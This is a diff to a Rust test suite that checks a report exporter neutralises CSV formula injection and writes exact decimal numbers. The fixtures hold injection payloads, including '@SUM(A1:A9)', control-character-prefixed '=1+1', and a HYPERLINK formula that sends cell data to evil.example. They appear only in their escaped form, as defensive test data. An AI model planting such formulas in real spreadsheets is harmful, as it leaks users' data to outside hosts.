@@ -309,8 +309,8 @@ unit_policies: [I-1-(1)-①, I-1-(1)-②]
 baseline:
   - {value: 3665}
 years:
-  R3: {target: 1600, actual: -2000, note: "\r=1+1"}
-  R4: {target: 1700, actual: "12345678901234567.8", note: "\t=1+1"}
+  R3: {target: 1600, actual: -2000, note: "-1+1"}
+  R4: {target: 1700, actual: "123456789012345.6789", note: "\t=1+1"}
   R5: {target: 1800, pending: "@SUM(A1:A9)"}
 "#;
 
@@ -382,7 +382,9 @@ fn csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers() {
         "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
     );
     assert_eq!(r3[column("unit")], "'+1");
-    assert_eq!(r3[column("note")], "'\r=1+1");
+    // (A note that starts with a carriage return is refused as a control character at load:
+    // tests/bad-input/control-*.)
+    assert_eq!(r3[column("note")], "'-1+1");
     assert_eq!(r4[column("note")], "'\t=1+1");
     assert_eq!(r5[column("indicator")], "'-2+3");
     assert_eq!(r5[column("pending")], "'@SUM(A1:A9)");
@@ -395,11 +397,11 @@ fn json_numbers_are_the_exact_decimals() {
     let tmp = built_with_formulas();
     let json = fs::read_to_string(tmp.path().join("output/data/report.json")).unwrap();
     serde_json::from_str::<serde_json::Value>(&json).expect("report.json is JSON");
-    assert!(json.contains("\"actual\": 12345678901234567.8,"), "{json}");
+    assert!(json.contains("\"actual\": 123456789012345.6789,"), "{json}");
     assert!(json.contains("\"actual\": -2000,"));
     let csv = fs::read_to_string(tmp.path().join("output/data/indicators.csv")).unwrap();
     assert!(
-        csv.contains(",12345678901234567.8,"),
+        csv.contains(",123456789012345.6789,"),
         "the CSV has the same figure"
     );
 }
